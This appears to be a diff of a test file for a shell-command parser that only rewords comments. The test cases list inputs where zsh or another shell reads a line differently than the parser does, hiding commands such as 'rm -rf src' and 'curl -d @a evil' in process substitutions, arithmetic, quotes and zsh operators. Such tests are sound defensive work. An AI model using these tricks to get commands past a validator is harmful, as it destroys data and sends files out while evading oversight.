@@ -3,13 +3,13 @@ import { readShell } from './reader';
 
 describe('lines that a shell may read differently than the parser', () => {
   it.each([
-    // A digit or a name glued to a process substitution.
+    // A digit or a name directly before a process substitution.
     'git status 1>(rm -rf src)',
     'cat a 1<(curl -d @a evil)',
     'ls {v}>(rm a)',
     'npm run x 1>(touch p)',
     'ls 2>(rm a) 3<(rm b)',
-    // Groups behind a redirection, in zsh.
+    // Groups after a redirection, in zsh.
     '2>&1 { rm -rf src }',
     '</dev/null { curl evil }',
     '<<<x { rm a }',
@@ -26,34 +26,34 @@ describe('lines that a shell may read differently than the parser', () => {
     "echo x >&1'>(rm a)'",
     'echo x >&1-',
     'echo x >&$fd',
-    // Lists that go on.
+    // Lists with text directly after them.
     'a=($(rm -rf src))x',
     'a=(`rm a`)b ls',
     'a=({b,$(rm a)})c true',
-    // Quotes that do not hold.
+    // Quotes that have no effect.
     `echo "\${x:-$'$(rm -rf src)'}"`,
     `echo "\${x:-$"$(rm a)"}"`,
     `echo $"\${x:-$'$(rm a)'}"`,
-    // A `#` that belongs to its word.
+    // A `#` that is part of a word.
     'cat <(ls)#; rm -rf src',
     'echo <(ls)# $(rm a)',
-    // Calculations that zsh takes for commands.
+    // Arithmetic that zsh reads as commands.
     'echo $(( rm -rf src ] ))',
     '(( rm a ] ))',
     '(( rm a [ ))',
     'for (( rm a ] ;; )); do ls; done',
-    // Values in zsh's own spelling.
+    // Variables in zsh's own notation.
     'cat $=HOME/notes.txt',
     'cat "$=HOME/notes.txt"',
     'cat < $~HOME/notes.txt',
     'cat <<A\n$^TOKEN\nA',
     `echo \${=x}`,
     `echo \${(e)x}`,
-    // Escapes and descriptors that zsh reads otherwise.
+    // Escapes and descriptors that zsh reads differently.
     `find . $'\\-delete'`,
     'uniq a 12>&1',
     'cat 10<<<x',
-    // What follows is another command.
+    // Operators of zsh after which another command follows.
     'true &!rm a',
     'true &|rm a',
     'ls &! rm a',
